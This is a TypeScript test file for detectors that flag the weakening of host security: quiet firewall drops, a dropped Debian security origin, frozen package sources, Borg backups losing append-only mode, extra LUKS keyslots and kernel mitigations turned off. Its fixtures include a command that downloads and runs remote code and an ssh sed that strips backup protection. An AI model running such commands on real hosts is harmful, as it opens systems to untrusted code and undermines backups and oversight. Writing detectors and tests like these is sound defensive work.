// The models' forms added for blind set 9 (issue 14), with the forms the software itself accepts:
// journald's rate limit, nftables chains without a log rule, APT's origins and frozen archives,
// downloads run as code, held packages, repairs and appends of Borg, added LUKS keyslots, kernel
// mitigations switched off.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { appendOnlyRemoved, repairingChecks } from "../policies/models/archives";
import { borgEnvironmentProblems } from "../policies/models/borg";
import { apparmorOff, journaldSyslogGap } from "../policies/models/hostAccess";
import { addedKeyslots } from "../policies/models/luks";
import { unloggedDropChains } from "../policies/models/nftables";
import { aptConfProblems, frozenSources, securityOriginKept, unverifiedCode } from "../policies/models/softwareSources";

describe("journald's rate limit", () => {
    it("reports a burst below journald's default, unless the interval turns limiting off", () => {
        assert.equal(journaldSyslogGap(["[Journal]\nRateLimitIntervalSec=30s\nRateLimitBurst=100\n"]), "RateLimitBurst=100");
        assert.equal(journaldSyslogGap(["[Journal]\nRateLimitBurst=100\n"]), "RateLimitBurst=100", "the default interval is 30s");
        assert.equal(journaldSyslogGap(["[Journal]\nRateLimitIntervalSec=0\nRateLimitBurst=100\n"]), undefined);
        assert.equal(journaldSyslogGap(["[Journal]\nRateLimitBurst=20000\n"]), undefined);
    });
});

describe("nftables: drops without a trace", () => {
    const ruleset = (input: string) => `table inet elabftw {\n    chain input {\n        type filter hook input priority filter; policy drop;\n${input}    }\n}\n`;
    it("finds a dropping base chain with no log statement, not one that logs", () => {
        assert.deepEqual(unloggedDropChains(ruleset('        iifname "lo" accept\n')), ["input"]);
        assert.deepEqual(unloggedDropChains(ruleset('        limit rate 10/second log prefix "x " level info\n')), []);
        assert.deepEqual(unloggedDropChains(ruleset('        iifname "lo" accept comment "no log here"\n')), ["input"], "a word in a comment is no log statement");
    });
});

describe("APT: what unattended-upgrades still installs", () => {
    it("keeps Debian's security origin unless a #clear drops it and nothing adds it back", () => {
        assert.equal(securityOriginKept([]), true);
        assert.equal(securityOriginKept(['#clear Unattended-Upgrade::Origins-Pattern;\nUnattended-Upgrade::Origins-Pattern {\n    "origin=Debian,codename=${distro_codename}-updates";\n};']), false);
        assert.equal(securityOriginKept(['#clear Unattended-Upgrade::Origins-Pattern;\nUnattended-Upgrade::Origins-Pattern { "label=Debian-Security"; };']), true);
        assert.equal(securityOriginKept(['Unattended-Upgrade::Origins-Pattern { "origin=Docker"; };']), true, "adding an origin keeps Debian's");
    });
    it("finds snapshot.debian.org at a date and Check-Valid-Until off", () => {
        assert.equal(frozenSources("deb http://snapshot.debian.org/archive/debian/20261101T000000Z trixie main").length, 1);
        assert.deepEqual(frozenSources("deb http://deb.debian.org/debian trixie main"), []);
        assert.deepEqual(aptConfProblems('Acquire::Check-Valid-Until "false";'), ['acquire::check-valid-until "false"']);
    });
    it("finds held packages and an interpreter given a download as its code", () => {
        assert.equal(unverifiedCode("apt-mark hold docker.io containerd").length, 1);
        assert.equal(unverifiedCode('node -e "$(curl -fsSL https://raw.example/x.cjs)"').length, 1);
        assert.deepEqual(unverifiedCode("apt-mark showhold"), []);
    });
});

describe("Borg: repairs, locks and append-only", () => {
    it("finds borg check --repair and the variables that skip its question or keep stale locks", () => {
        assert.deepEqual(repairingChecks("borg check --repair ::"), ["borg check --repair ::"]);
        assert.deepEqual(repairingChecks("borg check --verify-data"), []);
        const env = (name: string, text: string) => [{ name, value: { text, literal: true } }];
        assert.equal(borgEnvironmentProblems(env("BORG_HOSTNAME_IS_UNIQUE", "no")).length, 1);
        assert.equal(borgEnvironmentProblems(env("BORG_HOSTNAME_IS_UNIQUE", "yes")).length, 0);
        assert.equal(borgEnvironmentProblems(env("BORG_CHECK_I_KNOW_WHAT_I_AM_DOING", "YES")).length, 1);
    });
    it("finds a sed that takes --append-only away, over ssh too, not one that keeps it", () => {
        assert.equal(appendOnlyRemoved(`ssh root@b "sed -i 's/borg serve --append-only /borg serve /' /home/borg/.ssh/authorized_keys"`).length, 1);
        assert.deepEqual(appendOnlyRemoved("sed -i 's|--restrict-to-path /a|--restrict-to-path /b --append-only|' f"), []);
    });
});

describe("LUKS keyslots and the kernel's mitigations", () => {
    it("finds keyslots added beside the recovery passphrase and the vTPM", () => {
        assert.ok(addedKeyslots(["cryptsetup", "luksAddKey", "/dev/sdb"]));
        assert.ok(addedKeyslots(["systemd-cryptenroll", "--password", "/dev/sdb"]));
        assert.equal(addedKeyslots(["systemd-cryptenroll", "--tpm2-device=auto", "--tpm2-pcrs=7+8", "/dev/sdb"]), undefined);
    });
    it("finds mitigations=off and its relatives on GRUB's command line", () => {
        assert.equal(apparmorOff(['GRUB_CMDLINE_LINUX_DEFAULT="quiet mitigations=off"', 'GRUB_CMDLINE_LINUX="nopti"'], []).length, 2);
        assert.deepEqual(apparmorOff(['GRUB_CMDLINE_LINUX_DEFAULT="quiet mitigations=auto"'], []), []);
    });
});
